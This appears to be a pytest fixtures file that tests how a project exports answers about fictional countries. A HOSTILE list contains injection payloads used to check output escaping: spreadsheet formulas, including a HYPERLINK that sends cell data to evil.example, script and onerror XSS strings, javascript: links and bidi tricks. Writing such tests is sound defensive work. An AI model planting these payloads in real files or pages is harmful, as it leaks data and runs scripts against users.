"""Answers made by hand, about countries that do not exist."""

from __future__ import annotations

import io
from collections.abc import Callable
from dataclasses import replace

import pytest
from pyoxigraph import BlankNode, Literal, NamedNode

from communique.exports import write_answer
from communique.model import Answer, Citation, Document
from communique.project import Project
from communique.state import Difference, RowState
from communique.vocabulary import DOCUMENT, ID, XSD, Prefixes

HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1",
    "-1",
    "@SUM(A1)",
    "a|b",
    "back\\slash|",
    "<script>alert(1)</script>",
    "</bdi><img src=x onerror=alert(1)>",
    "two\nlines",
    "carriage\rreturn",
    "tab\there",
    "quote \" and '",
    "[link](javascript:alert(1))",
    "![image](http://evil.example/x.png)",
    "# heading",
    "1. list",
    "`code` *star* _under_ ~~gone~~",
    "&lt;b&gt;",
    "עברית",
    "نص عربي",
    "turned \u202eround",
    "nul\x00 and bell\x07",
    ",;",
    " ",
    "null",
)
"""Texts that some format takes for more than a text."""

Write = Callable[..., bytes]


@pytest.fixture(scope="session")
def prefixes() -> Prefixes:
    kinds = ("country", "person", "agreement")
    return Prefixes({kind: f"{ID}{kind}/" for kind in kinds} | {"xsd": str(XSD)})


@pytest.fixture(scope="session")
def ours() -> Project:
    return Project.find()


@pytest.fixture
def write(prefixes: Prefixes) -> Write:
    def written(answer: Answer, format: str) -> bytes:
        output = io.BytesIO()
        write_answer(answer, format, output, prefixes)
        assert not output.closed
        return output.getvalue()

    return written


GAZETTE = Document(
    iri=DOCUMENT["gazette"].value,
    title="News of gazette",
    publisher="Zenda Gazette",
    published="2024-03-25",
    address="https://gazette.example/a?b=1&c=2",
    archived_address="https://archive.example/gazette",
)
COURIER = Document(
    iri=DOCUMENT["courier"].value,
    title="News of courier",
    publisher="Courier",
    address="javascript:alert(1)",
)


@pytest.fixture
def answer() -> Answer:
    """Three rows: a plain one, one with every warning, one with nothing bound that need not be."""
    difference = Difference(
        "Treaty of Zenda",
        "date",
        (("2024-03-25", ("Zenda Gazette, 2024-03-25",)), ("2024-03", ("Courier",))),
    )
    return Answer(
        name="agreements",
        question="Which agreements are there?",
        parameters={"country": ("Ruritania", "Syldavia")},
        columns=("agreement", "agreement_label", "date", "number", "certainty", "note_label"),
        rows=[
            (
                ID["agreement/zenda"],
                Literal("Treaty of Zenda", language="en"),
                Literal("2024-03-25", datatype=XSD.date),
                Literal("63", datatype=XSD.integer),
                Literal("sure"),
                Literal("first"),
            ),
            (
                ID["agreement/strelsau/2"],
                Literal("Pact | of Strelsau"),
                Literal("2024-03", datatype=XSD.gYearMonth),
                Literal("12.50", datatype=XSD.decimal),
                BlankNode("b1"),
                Literal("second"),
            ),
            (ID["agreement/nameless"], None, None, None, None, None),
        ],
        states=[
            RowState(stage=("signed",), articles=2, origins=1),
            RowState(
                stage=("planned", "announced"),
                certainty="hedged",
                checked=False,
                rules=("signing/1",),
                articles=2,
                together=True,
                origins=2,
                absence=True,
                differences=(difference,),
            ),
            RowState(),
        ],
        citations=[
            Citation(GAZETTE, f"{GAZETTE.iri}#char=0,24", "They sign.", words="We sign today."),
            Citation(GAZETTE, f"{GAZETTE.iri}#char=30,44", "On a day in March.", "hedged"),
            Citation(
                COURIER,
                f"{DOCUMENT}brief#char=5,9",
                "It is planned.",
                words="words of the brief",
                restated=True,
            ),
        ],
        cited=[(0,), (1, 2), ()],
        version="0.1.0 (data 5ac2)",
    )


@pytest.fixture
def plain(answer: Answer) -> Answer:
    return replace(answer, states=None, citations=None, cited=None)


@pytest.fixture
def empty(answer: Answer) -> Answer:
    searched = "No document of 8, from 2024-01-26 to 2025-10-10, says so."
    return replace(answer, rows=[], states=[], citations=[], cited=[], searched=searched)


@pytest.fixture
def hostile() -> Answer:
    """Every hostile text as a label, in a state and in a source."""
    articles = [
        Document(DOCUMENT[f"d{n}"].value, text, text, text, f"https://a.example/{text}")
        for n, text in enumerate(HOSTILE)
    ]
    values = (("1", HOSTILE), ("2", ()))
    return Answer(
        name="hostile",
        question="Is | <b>this</b>\nsafe?",
        parameters={"text": HOSTILE},
        columns=("thing", "thing_label", "other"),
        rows=[
            (NamedNode(f"javascript:{n}"), Literal(text), Literal(text, language="ar"))
            for n, text in enumerate(HOSTILE)
        ],
        states=[
            RowState(
                stage=(text,), articles=1, origins=1, differences=(Difference(text, text, values),)
            )
            for text in HOSTILE
        ],
        citations=[
            Citation(a, f"{a.iri}#char=0,1", gloss=text, words=text)
            for a, text in zip(articles, HOSTILE, strict=True)
        ],
        cited=[(n,) for n in range(len(HOSTILE))],
    )
